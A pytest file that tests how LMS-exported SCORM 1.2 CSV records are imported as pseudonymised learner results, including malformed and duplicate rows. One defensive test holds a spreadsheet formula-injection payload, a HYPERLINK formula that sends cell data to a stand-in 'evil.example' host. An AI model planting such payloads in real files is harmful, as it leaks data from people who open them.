"""SCORM 1.2 interaction records (CSV, as an LMS reports them) imported as learners' results, on SQLite and PostgreSQL."""

from __future__ import annotations

import json

import pytest
from sqlalchemy import select

from tests.support.signals import MODULE_ID, signals_on
from workbench.errors import SignalsInputInvalid
from workbench.signals.tables import learner_results, signal_imports

HEADER = "learner_id,module_id,cmi.interactions.n.id,cmi.interactions.n.result,cmi.interactions.n.student_response,date,cmi.interactions.n.time"


def rows(database) -> list:
    with database.read() as connection:
        return connection.execute(select(learner_results).order_by(learner_results.c.id)).all()


def write(tmp_path, name: str, text: str, encoding: str = "utf-8"):
    path = tmp_path / name
    path.write_bytes(text.encode(encoding))
    return path


def test_interaction_records_map_to_items_and_the_learner_is_pseudonymised(database, tmp_path):
    path = write(tmp_path, "lms.csv", "\n".join([
        HEADER,
        f"emp-0042,{MODULE_ID},q1,correct,a,2026-11-02,09:15:02",
        f"emp-0042,{MODULE_ID},q2,wrong,c,2026-11-02,09:15:40",
        f"emp-0043,{MODULE_ID},q3,neutral,b,2026-11-03,10:00:00",
    ]) + "\n")
    report = signals_on(database).import_file(path, "scorm-csv", "lena")
    assert (report.read, report.kept, report.rejected) == (3, 3, 0)
    kept = rows(database)
    assert [(r.module_id, r.item_id, r.objective_id, r.verb, r.success, r.response, r.occurred_at.isoformat()) for r in kept] == [
        (MODULE_ID, "q1", "o1", "answered", True, "a", "2026-11-02T09:15:02+00:00"),
        (MODULE_ID, "q2", "o2", "answered", False, "c", "2026-11-02T09:15:40+00:00"),
        (MODULE_ID, "q3", "o1", "answered", None, "b", "2026-11-03T10:00:00+00:00"),
    ]
    assert kept[0].person == kept[1].person != kept[2].person
    assert "emp-0042" not in json.dumps([list(r) for r in kept], default=str)


def test_a_bom_and_semicolons_as_a_european_spreadsheet_saves_them(database, tmp_path):
    text = "\ufeff" + HEADER.replace(",", ";") + "\r\n" + f"emp-1;{MODULE_ID};q4;correct;a;2026-11-02;08:00:00\r\n"
    path = write(tmp_path, "excel.csv", text)
    report = signals_on(database).import_file(path, "scorm-csv", "lena")
    assert (report.kept, report.rejected) == (1, 0)
    assert rows(database)[0].item_id == "q4"


def test_a_formula_cell_is_kept_as_text_and_quoted_harmlessly_in_the_report(database, tmp_path):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    path = write(tmp_path, "f.csv", "\n".join([
        HEADER,
        f'emp-1,{MODULE_ID},q1,correct,"{formula.replace(chr(34), chr(34) * 2)}",2026-11-02,08:00:00',
        f'emp-1,{MODULE_ID},q2,"{formula.replace(chr(34), chr(34) * 2)}",a,2026-11-02,08:00:00',
    ]) + "\n")
    report = signals_on(database).import_file(path, "scorm-csv", "lena")
    assert rows(database)[0].response == formula
    assert [(p.line, p.reason) for p in report.problems] == [
        (3, 'result "\'=HYPERLINK("https://evil.example/?x="&A1,"click")" is not correct, wrong, unanticipated, neutral or a number'),
    ]
    assert not any(p.reason.startswith("=") or "'=HYPERLINK" not in p.reason for p in report.problems)


def test_duplicate_rows_are_kept_once_and_named(database, tmp_path):
    row = f"emp-1,{MODULE_ID},q1,correct,a,2026-11-02,08:00:00"
    path = write(tmp_path, "d.csv", "\n".join([HEADER, row, f"emp-2,{MODULE_ID},q1,wrong,b,2026-11-02,08:00:00", row]) + "\n")
    report = signals_on(database).import_file(path, "scorm-csv", "lena")
    assert (report.read, report.kept, report.duplicates, report.rejected) == (3, 2, 1, 0)
    assert [(p.line, p.reason) for p in report.problems] == [(4, "the same record as line 2; kept once")]
    assert len(rows(database)) == 2


def test_bad_rows_are_reported_by_line_and_the_good_ones_kept(database, tmp_path):
    path = write(tmp_path, "bad.csv", "\n".join([
        HEADER,
        f"emp-1,{MODULE_ID},q1,correct,a,2026-11-02,08:00:00",  # 2 kept
        f",{MODULE_ID},q1,correct,a,2026-11-02,08:00:00",        # 3 no learner
        f"emp-1,{MODULE_ID},q1,correct,a,2026-11-02",            # 4 short row
        f"emp-1,{MODULE_ID},q1,correct,a,2026-11-02,8 o'clock",  # 5 bad time
        f"emp-1,{MODULE_ID},q1,correct,a,2099-01-01,08:00:00",   # 6 future
        f"emp-1,retired-module,q1,correct,a,2026-11-02,08:00:00",  # 7 module not published
        f"emp-1,{MODULE_ID},q99,correct,a,2026-11-02,08:00:00",  # 8 unknown interaction id
        "",
    ]) + "\n")
    report = signals_on(database).import_file(path, "scorm-csv", "lena")
    assert [(p.line, p.reason) for p in report.problems] == [
        (3, "no learner id"),
        (4, "6 cells where the header has 7"),
        (5, "time \"8 o'clock\" is not HH:MM:SS"),
        (6, "the time 2099-01-01T08:00:00+00:00 is in the future"),
        (7, 'module "retired-module" is not a published module with an assessment'),
    ]
    assert report.unknown_ids == {f"{MODULE_ID}/q99": 1}
    assert (report.read, report.kept, report.rejected) == (7, 1, 6)


def test_a_file_for_one_module_names_it_on_the_command_line(database, tmp_path):
    header = "student_id,interaction_id,result,student_response,timestamp"
    path = write(tmp_path, "one.csv", f"{header}\nemp-1,q2,correct,b,2026-11-02T08:00:00Z\n")
    with pytest.raises(SignalsInputInvalid, match=r"^one.csv: the header has no module_id \(or pass --module\) column; nothing was imported$"):
        signals_on(database).import_file(path, "scorm-csv", "lena")
    report = signals_on(database).import_file(path, "scorm-csv", "lena", module_id=MODULE_ID)
    assert (report.kept, rows(database)[0].item_id) == (1, "q2")


@pytest.mark.parametrize("text, reason", [("", "the file is empty"), ("\ufeff\r\n", "the file has no header line"),
                                          (HEADER + "\n\n", "the file has a header but no rows")])
def test_an_empty_file_is_a_clear_error_and_nothing_is_recorded(database, tmp_path, text, reason):
    path = write(tmp_path, "empty.csv", text)
    with pytest.raises(SignalsInputInvalid) as error:
        signals_on(database).import_file(path, "scorm-csv", "lena")
    assert str(error.value) == f"empty.csv: {reason}; nothing was imported"
    with database.read() as connection:
        assert connection.execute(select(signal_imports)).all() == []
